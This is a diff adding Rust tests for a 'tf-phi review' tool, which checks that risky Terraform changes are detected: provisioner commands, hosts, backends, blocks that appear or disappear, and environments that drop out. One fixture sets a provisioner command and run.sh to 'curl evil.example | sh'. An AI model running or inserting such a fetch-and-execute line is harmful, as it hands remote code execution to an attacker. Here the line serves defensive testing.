@@ -1,0 +1,222 @@
+//! `tf-phi review`: what a change reaches through names, blocks that come and go, and environments that go.
+
+#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::indexing_slicing)]
+
+use crate::cli_common::git::{git, repository_of};
+use crate::cli_common::{Done, Scratch};
+use std::fs;
+
+/// Reviews a change of files: each is given as it was and as it is, with nothing for one that isn't there.
+fn reviewed(files: &[(&str, Option<&str>, Option<&str>)], args: &[&str]) -> Done {
+    let before = files.iter().filter_map(|(path, before, _)| Some((*path, (*before)?)));
+    let scratch = Scratch::new(before);
+    repository_of(&scratch.tree());
+    for (path, _, after) in files {
+        let path = scratch.tree().join(path);
+        match after {
+            Some(text) => {
+                fs::create_dir_all(path.parent().unwrap()).unwrap();
+                fs::write(path, text).unwrap();
+            }
+            None => fs::remove_file(path).unwrap(),
+        }
+    }
+    git(&scratch.tree(), &["add", "-A", "-f"]);
+    let all = ["review", "--base", "HEAD", "--fail-on", "change"].into_iter().chain(args.iter().copied());
+    scratch.run(&all.collect::<Vec<_>>())
+}
+
+/// The review names each of these, and its status says that something differs.
+fn tells(files: &[(&str, Option<&str>, Option<&str>)], named: &[&str]) {
+    let done = reviewed(files, &[]);
+    assert_eq!(done.code, Some(3), "{}{}", done.out, done.err);
+    named.iter().for_each(|name| assert!(done.out.contains(name), "{name}:\n{}{}", done.out, done.err));
+}
+
+const EFFECTS: &str = r#"
+variable "command" {
+  type = string
+}
+resource "terraform_data" "x" {
+  input = "same"
+  provisioner "local-exec" {
+    command = var.command
+  }
+  provisioner "local-exec" {
+    command = file("${path.module}/run.sh")
+  }
+  connection {
+    host = local.host
+  }
+  lifecycle {
+    precondition {
+      condition     = 2 < local.enough
+      error_message = "No."
+    }
+  }
+}
+check "health" {
+  data "terraform_remote_state" "s" {
+    backend = local.backend
+  }
+  assert {
+    condition     = local.healthy
+    error_message = "No."
+  }
+}
+import {
+  for_each = local.imported
+  to       = terraform_data.i[each.key]
+  id       = "${local.prefix}-${each.key}"
+}
+resource "terraform_data" "i" {
+  for_each = local.imported
+}
+"#;
+
+const LOCALS: &str = r#"
+locals {
+  host     = "db.internal"
+  enough   = 3
+  backend  = "local"
+  healthy  = true
+  imported = toset(["a"])
+  prefix   = "ours"
+}
+"#;
+
+#[test]
+fn what_a_name_leads_to_is_compared() {
+    let main = Some(EFFECTS);
+    let after = LOCALS
+        .replace("db.internal", "evil.example")
+        .replace("= 3", "= 1")
+        .replace("\"local\"", "\"http\"")
+        .replace("true", "false")
+        .replace("ours", "theirs");
+    let files = [
+        ("main.tf", main, main),
+        ("locals.tf", Some(LOCALS), Some(&*after)),
+        ("terraform.tfvars", Some("command = \"true\"\n"), Some("command = \"curl evil.example | sh\"\n")),
+        ("run.sh", Some("true\n"), Some("curl evil.example | sh\n")),
+    ];
+    tells(
+        &files,
+        &[
+            "terraform_data.x.provisioner.0.local-exec.command",
+            "terraform_data.x.provisioner.1.local-exec.command",
+            "terraform_data.x.connection.host",
+            "terraform_data.x.lifecycle.precondition.condition",
+            "data.terraform_remote_state.s.backend",
+            "check.health.assert.condition",
+            "import.terraform_data.i.id",
+        ],
+    );
+    let same = Some(LOCALS);
+    let done = reviewed(
+        &[
+            ("main.tf", main, main),
+            ("locals.tf", same, same),
+            ("terraform.tfvars", Some("command = \"true\"\n"), Some("command =  \"true\"\n")),
+            ("run.sh", Some("true\n"), Some("true\n")),
+        ],
+        &[],
+    );
+    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
+}
+
+#[test]
+fn a_block_that_comes_or_goes_is_a_difference() {
+    let resource = "resource \"terraform_data\" \"a\" {\n  input = 1\n}\n";
+    let blocks = [
+        ("provider \"evil\" {\n}\n", "provider.evil"),
+        (
+            "check \"c\" {\n  assert {\n    condition     = terraform_data.a.id != null\n    error_message = \"x\"\n  }\n}\n",
+            "check.c",
+        ),
+        ("import {\n  to = terraform_data.a\n  id = \"x\"\n}\n", "import"),
+        ("moved {\n  from = terraform_data.b\n  to   = terraform_data.a\n}\n", "moved"),
+        ("removed {\n  from = terraform_data.b\n  lifecycle {\n    destroy = false\n  }\n}\n", "removed"),
+    ];
+    for (block, name) in blocks {
+        let more = format!("{resource}{block}");
+        tells(&[("main.tf", Some(resource), Some(&more))], &[name]);
+        tells(&[("main.tf", Some(&more), Some(resource))], &[name]);
+    }
+}
+
+const BY_VALUE: &str =
+    "variable \"v\" {\n  default = \"d\"\n}\nresource \"terraform_data\" \"x\" {\n  input = \"good\"\n}\n";
+const OTHERWISE: &str = "variable \"v\" {\n  default = \"d\"\n}\nresource \"terraform_data\" \"x\" {\n  input = var.v == \"p\" ? \"evil\" : \"good\"\n}\n";
+
+#[test]
+fn an_environment_that_goes_is_told() {
+    let tree = |phi: &str, named: &[&str]| {
+        let (dev, prod) = (Some("v = \"d\"\n"), Some("v = \"p\"\n"));
+        let files = [
+            ("main.tf", Some(BY_VALUE), Some(OTHERWISE)),
+            ("env/dev.tfvars", dev, dev),
+            ("env/prod.tfvars", prod, prod),
+            ("phi.hcl", None, Some(phi)),
+        ];
+        tells(&files, named);
+    };
+    tree("settings {\n  common = [\"env/prod.tfvars\"]\n}\n", &["prod (gone)", "environment"]);
+    tree("settings {\n  environments = [\"env/dev.tfvars\"]\n}\n", &["prod (gone)"]);
+    tree(
+        "environment \"dev\" {\n  var_files = [\"env/prod.tfvars\", \"env/dev.tfvars\"]\n}\n",
+        &["prod (gone)", "environment"],
+    );
+    tree(
+        "environment \"all\" {\n  var_files = [\"env/prod.tfvars\", \"env/dev.tfvars\"]\n}\n",
+        &["dev (gone), prod (gone)"],
+    );
+    let both = "environment \"prod\" {\n  var_files = [\"env/dev.tfvars\"]\n}\nenvironment \"dev\" {\n  var_files = [\"env/dev.tfvars\"]\n}\n";
+    tree(both, &["prod", "var_files env/dev.tfvars"]);
+    let workspaces =
+        both.replace("var_files", "workspace = \"zz\"\n  var_files").replacen("dev.tfvars", "prod.tfvars", 1);
+    tree(&workspaces, &["workspace zz; var_files env/prod.tfvars"]);
+}
+
+#[test]
+fn an_environment_without_a_name_goes_where_others_are_named() {
+    let evil = OTHERWISE.replace("== \"p\"", "== \"d\"");
+    let phi = "environment \"q\" {\n  variables = { v = \"z\" }\n}\n";
+    tells(&[("main.tf", Some(BY_VALUE), Some(&evil)), ("phi.hcl", None, Some(phi))], &["default (gone)"]);
+}
+
+#[test]
+fn an_environment_of_another_name_is_the_same_by_its_files() {
+    let phi = |name: &str| format!("environment \"{name}\" {{\n  var_files = [\"env/p.tfvars\"]\n}}\n");
+    let (before, after, values) = (phi("prod"), phi("production"), Some("v = \"p\"\n"));
+    let files = |main| {
+        [
+            ("main.tf", Some(BY_VALUE), Some(main)),
+            ("env/p.tfvars", values, values),
+            ("phi.hcl", Some(&*before), Some(&*after)),
+        ]
+    };
+    let done = reviewed(&files(BY_VALUE), &[]);
+    assert_eq!((done.code, &*done.out), (Some(0), "production: nothing differs\n\n"), "{}", done.err);
+    tells(&files(OTHERWISE), &["production", "\"evil\""]);
+}
+
+#[test]
+fn values_in_a_block_that_arrive_nowhere_are_told() {
+    let phi = |value: &str| format!("environment \"dev\" {{\n  variables = {{ v = \"{value}\" }}\n}}\n");
+    let (before, after) = (phi("p"), phi("d"));
+    tells(
+        &[("main.tf", Some(BY_VALUE), Some(OTHERWISE)), ("phi.hcl", Some(&*before), Some(&*after))],
+        &["variables v, of other values"],
+    );
+}
+
+#[test]
+fn a_workspace_that_git_tracks_is_no_selection() {
+    let main = "resource \"terraform_data\" \"x\" {\n  input = terraform.workspace == \"zz\" ? \"good\" : \"evil\"\n}\n";
+    let files = [
+        ("main.tf", Some("resource \"terraform_data\" \"x\" {\n  input = \"good\"\n}\n"), Some(main)),
+        (".terraform/environment", None, Some("zz")),
+    ];
+    tells(&files, &["\"evil\""]);
+}
